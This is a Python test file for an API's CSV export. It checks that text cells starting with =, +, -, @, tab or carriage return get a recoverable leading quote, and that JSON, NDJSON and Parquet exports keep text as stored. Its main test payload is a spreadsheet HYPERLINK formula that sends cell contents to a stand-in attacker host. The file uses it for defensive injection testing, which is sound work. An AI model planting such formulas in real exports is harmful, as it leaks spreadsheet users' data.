"""CSV exports cannot carry spreadsheet formulas: a text cell starting with =, +, -, @, a tab or a
carriage return gets a leading quote (OWASP), recoverably; numbers stay numbers; JSON, NDJSON and
Parquet carry the text as stored."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import orjson
import pandas as pd
import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from app.api.formats import neutralise_formulas
from tests.factories import make_actor, make_observation, make_topic

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
TOPIC = "csv-formulas"


def recovered(cell: str) -> str:
    """What the stored value was, by the rule the README documents."""
    return cell[1:] if re.match(r"'+[=+\-@\t\r]", cell) else cell


TEXTS = [
    FORMULA,
    "+1 555 0100",
    "-5 dB, said the engineer",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''-twice",
    "'plain quote",
    "plain text - with a dash inside = and an equals",
    "",
]


@pytest.mark.parametrize("text", TEXTS)
def test_neutralised_text_is_recoverable_and_inert(text: str) -> None:
    frame = pd.DataFrame({"evidence": [text, None], "score": [-0.5, 0.25]})
    out = neutralise_formulas(frame)
    cell = out["evidence"][0]
    assert recovered(cell) == text
    assert not re.match(r"[=+\-@\t\r]", cell)  # nothing a spreadsheet would run
    assert out["score"].tolist() == [-0.5, 0.25]
    assert pd.isna(out["evidence"][1])
    assert frame["evidence"][0] == text  # the caller's frame is left alone


def test_columns_without_text_are_left_alone() -> None:
    frame = pd.DataFrame({"n": [-1, 2], "flag": [True, None], "items": [["=a"], None]}, dtype=object)
    assert neutralise_formulas(frame).equals(frame)


@pytest.fixture
def stances(session: Session) -> list[int]:
    actor, topic = make_actor(session, "csv-speaker"), make_topic(session, TOPIC)
    ids = [
        make_observation(
            session,
            actor=actor,
            topic=topic,
            score=-0.5,
            evidence=FORMULA,
            speaker="@press_office",
            note="+1",
        ).id,
        make_observation(session, actor=actor, topic=topic, score=-1.0, evidence="'=already quoted").id,
        make_observation(
            session, actor=actor, topic=topic, score=0.75, evidence="France - again - agreed."
        ).id,
    ]
    session.commit()
    return ids


def _get(client: TestClient, format: str) -> Any:
    response = client.get("/v1/stances", params={"topic": TOPIC, "format": format})
    assert response.status_code == 200, response.text
    return response


def test_stance_csv_is_neutralised_and_scores_stay_numeric(client: TestClient, stances: list[int]) -> None:
    text = _get(client, "csv").text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [int(row["id"]) for row in rows] == stances
    first, second, third = rows
    assert first["evidence"] == "'" + FORMULA
    assert (first["speaker"], first["note"]) == ("'@press_office", "'+1")
    assert second["evidence"] == "''=already quoted"
    assert third["evidence"] == "France - again - agreed."
    assert [recovered(row["evidence"]) for row in rows] == [
        FORMULA,
        "'=already quoted",
        "France - again - agreed.",
    ]
    # scores are written as numbers, unquoted and without the prefix
    assert [float(row["score"]) for row in rows] == [-0.5, -1.0, 0.75]
    data_lines = text.splitlines()[1:]
    assert all(re.search(r",-0\.5,|,-1\.0,|,0\.75,", line) for line in data_lines), data_lines


def test_other_formats_carry_the_text_as_stored(client: TestClient, stances: list[int]) -> None:
    assert _get(client, "json").json()["items"][0]["evidence"] == FORMULA
    first = orjson.loads(_get(client, "ndjson").content.splitlines()[0])
    assert (first["evidence"], first["speaker"], first["score"]) == (FORMULA, "@press_office", -0.5)
    frame = pd.read_parquet(io.BytesIO(_get(client, "parquet").content))
    assert frame["evidence"].tolist()[:2] == [FORMULA, "'=already quoted"]
    assert frame["score"].tolist() == [-0.5, -1.0, 0.75]
